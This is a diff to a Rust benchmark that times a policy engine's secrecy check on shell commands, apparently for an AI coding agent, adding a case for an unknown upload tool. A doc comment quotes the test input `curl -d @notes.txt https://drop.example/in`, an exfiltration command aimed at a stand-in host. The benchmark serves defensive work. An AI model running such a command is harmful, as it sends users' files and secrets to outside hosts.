@@ -5,7 +5,9 @@
 //! the whole ancestry of every read and finds nothing: its worst case. Timed: `Front::check`
 //! of `curl -d @notes.txt https://drop.example/in` (an egress call, composed, asked by the
 //! coding policy) with the coding policy as shipped and with its `[secrets]` table emptied,
-//! beside one Ed25519 `verify_strict` as the raw primitive, all in the same run.
+//! and the same of `mytool --upload notes.txt` (a program not known to keep data local and not
+//! an egress command, §16.2), beside one Ed25519 `verify_strict` as the raw primitive, all in
+//! the same run.
 //!
 //! ```sh
 //! cargo bench --bench secrecy
@@ -42,14 +44,23 @@ fn secrecy(c: &mut Criterion) {
     );
     let mut without = shipped.clone();
     without.secrets = Secrets::default();
-    for (name, policy) in [
-        ("check_without_secrecy", without),
-        ("check_with_secrecy", shipped),
+    // A program not known to keep data local and not an egress command (spec/hooks.md §16.2,
+    // "Programs not known to stay local"): the rule looks for the session's secret values in
+    // its arguments.
+    let stranger: Map<String, Value> = match json!({"command": "mytool --upload notes.txt"}) {
+        Value::Object(m) => m,
+        _ => unreachable!("an object literal"),
+    };
+    for (name, policy, args) in [
+        ("check_without_secrecy", without.clone(), &args),
+        ("check_with_secrecy", shipped.clone(), &args),
+        ("check_stranger_without_secrecy", without, &stranger),
+        ("check_stranger_with_secrecy", shipped, &stranger),
     ] {
         let (mut f, s) = session(policy, "/home/u/proj");
         let none = HashMap::new();
         g.bench_function(name, |b| {
-            b.iter(|| black_box(f.check(&s, "Bash", black_box(&args), &none).expect("check")))
+            b.iter(|| black_box(f.check(&s, "Bash", black_box(args), &none).expect("check")))
         });
     }
     g.finish();
